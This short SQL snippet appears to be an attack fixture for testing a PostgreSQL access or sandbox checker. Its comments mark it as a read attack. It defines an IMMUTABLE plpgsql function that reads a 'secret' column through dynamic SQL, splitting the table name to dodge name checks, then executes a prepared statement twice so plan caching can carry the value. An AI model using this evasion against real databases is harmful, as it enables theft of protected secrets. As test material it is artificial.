-- Executes a statement twice whose plan has the value in it since the first time.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
$f$;
PREPARE p AS SELECT peek();
EXECUTE p;
EXECUTE p;
